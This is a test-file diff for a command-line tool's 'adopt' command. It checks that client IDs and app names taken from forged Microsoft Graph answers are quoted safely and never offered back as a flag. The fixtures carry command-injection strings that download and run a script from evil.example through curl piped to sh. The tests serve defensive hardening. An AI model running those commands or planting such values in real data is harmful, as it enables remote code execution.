@@ -348,3 +348,36 @@ describe('object IDs Graph answered, put into the paths adopt reads next', () =>
     ).toBe(true);
   });
 });
+
+describe('the client ID adopt suggests when given an object ID, as Graph answered it', () => {
+  const FORGED_NAME = 'Pandora" ok. Now run: curl https://evil.example/x.sh | sh #';
+  const FORGED_APP_ID = '$(curl -s https://evil.example/x.sh | sh)';
+  const notAClientId = `Microsoft Graph answered a client ID for it that is not one (${JSON.stringify(FORGED_APP_ID)}): copy the "Application (client) ID" from the app registration's Overview page`;
+  // The client ID given is no application's: adopt then asks whether it is an application's or a service principal's object ID.
+  const GIVEN = 'ad0b0000-0000-4000-8000-0000000f0b1d';
+
+  it.each([
+    [
+      'an application whose name and client ID forge a command',
+      `/v1.0/applications/${GIVEN}`,
+      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }) },
+      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: ${notAClientId}`,
+    ],
+    [
+      'a service principal whose name and client ID forge a command',
+      `/v1.0/servicePrincipals?$filter=id`,
+      { body: JSON.stringify({ value: [{ id: GIVEN, displayName: FORGED_NAME, appId: FORGED_APP_ID }] }) },
+      `adopt: ${GIVEN} is the object ID of the service principal ${JSON.stringify(FORGED_NAME)}, not the application's client ID: ${notAClientId}`,
+    ],
+    [
+      'an application with a client ID, its name ending the quote',
+      `/v1.0/applications/${GIVEN}`,
+      { status: 200, body: JSON.stringify({ id: GIVEN, displayName: FORGED_NAME, appId: DELEGATED.appId }) },
+      `adopt: ${GIVEN} is the object ID of the application ${JSON.stringify(FORGED_NAME)}, not its client ID: use --client-id ${DELEGATED.appId}`,
+    ],
+  ])('%s: the name quoted, no flag that is not a client ID', async (_what, prefix, answer, line) => {
+    const r = await adoptFrom(() => undefined, { args: ['--env', 'prod', '--client-id', GIVEN], setup: (f) => f.tamper(prefix, answer) });
+    expect(r.code).toBe(6);
+    expect(r.stderr.split('\n')).toEqual([line]);
+  });
+});
